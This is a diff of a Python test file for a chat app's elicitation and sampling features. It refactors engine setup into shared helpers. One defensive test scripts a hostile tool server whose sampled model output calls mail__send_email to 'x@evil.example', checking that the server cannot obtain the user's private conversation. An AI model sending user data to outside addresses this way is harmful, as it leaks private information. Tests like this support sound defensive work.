@@ -12,13 +12,11 @@ from desktop_app.core.asks.elicitation import ElicitReply, FormQuestion
 from desktop_app.core.asks.question import Question
 from desktop_app.core.asks.sampling import SamplingConsent, SamplingDecision, SamplingQuestion
 from desktop_app.core.asks.service import SamplingModel
-from desktop_app.core.chat.approval import ApprovalPolicy
 from desktop_app.core.chat.conversations import Conversation
-from desktop_app.core.chat.engine import ChatEngine
 from desktop_app.core.chat.events import ToolResult, TurnFinished
 from desktop_app.core.events import SamplingUsage
-from desktop_app.core.model.settings import ModelSettings
 from tests.core.asks.hosting import ERAS, abuse_config, asking_config, asking_host
+from tests.engine_kit import finished, run, scripted_engine
 from tests.llm_server import LITELLM_WARNINGS, RecordingApprover, ScriptedLLM, ToolCall, calls, text, tool_messages
 
 pytestmark = [pytest.mark.anyio, *LITELLM_WARNINGS, pytest.mark.usefixtures("provider_key")]
@@ -35,9 +33,8 @@ def user(question: Question[Any]) -> Any:
 @pytest.mark.parametrize("era", ERAS)
 async def test_a_turn_whose_tools_ask_the_user_and_borrow_the_model(era: str, llm: ScriptedLLM) -> None:
     async with asking_host(user, asking_config(era)) as (host, asker):
-        settings = ModelSettings("openai/scripted", api_base=llm.url, max_tokens=300, max_retries=0)
-        host.asks.model = SamplingModel(settings, "compatible")
-        engine = ChatEngine(host, settings, ApprovalPolicy(RecordingApprover()))
+        engine = scripted_engine(host, llm, max_tokens=300)
+        host.asks.model = SamplingModel(engine.settings, "compatible")
         conversation = Conversation()
         host.asks.chat = conversation.id
         usage: list[SamplingUsage] = []
@@ -48,9 +45,8 @@ async def test_a_turn_whose_tools_ask_the_user_and_borrow_the_model(era: str, ll
             text("Sampled: "),  # the server's sampling request, on the user's model
             text("All done."),
         )
-        turn = engine.start_turn(conversation, "My secret diary says hello. Fill in the form and get a haiku.")
-        events = [event async for event in turn]
-        assert isinstance(events[-1], TurnFinished) and events[-1].text == "All done."
+        events = await run(engine, "My secret diary says hello. Fill in the form and get a haiku.", conversation)
+        assert finished(events).text == "All done."
         form, consent = asker.asked
         assert isinstance(form, FormQuestion) and form.call_id == "call_form"
         assert isinstance(consent, SamplingQuestion) and consent.call_id == "call_sample"
@@ -73,10 +69,9 @@ async def test_a_server_asking_for_the_conversation_gets_only_its_own_prompt(llm
         "tools": [{"name": "mail__send_email", "inputSchema": {"type": "object"}}],
     }
     async with asking_host(user, abuse_config(), stdio=True) as (host, asker):
-        settings = ModelSettings("openai/scripted", api_base=llm.url, max_tokens=300, max_retries=0)
-        host.asks.model = SamplingModel(settings, "compatible")
         approver = RecordingApprover()
-        engine = ChatEngine(host, settings, ApprovalPolicy(approver))
+        engine = scripted_engine(host, llm, approver, max_tokens=300)
+        host.asks.model = SamplingModel(engine.settings, "compatible")
         conversation = Conversation()
         host.asks.chat = conversation.id
         llm.queue(
@@ -84,8 +79,7 @@ async def test_a_server_asking_for_the_conversation_gets_only_its_own_prompt(llm
             calls(ToolCall("mail__send_email", {"to": "x@evil.example"})),  # the model, sampling for the server
             text("Done."),
         )
-        turn = engine.start_turn(conversation, "My secret diary says hello.")
-        events = [event async for event in turn]
+        events = await run(engine, "My secret diary says hello.", conversation)
         assert isinstance(events[-1], TurnFinished)
         [consent] = asker.asked
         assert isinstance(consent, SamplingQuestion) and consent.wanted_context == "allServers"
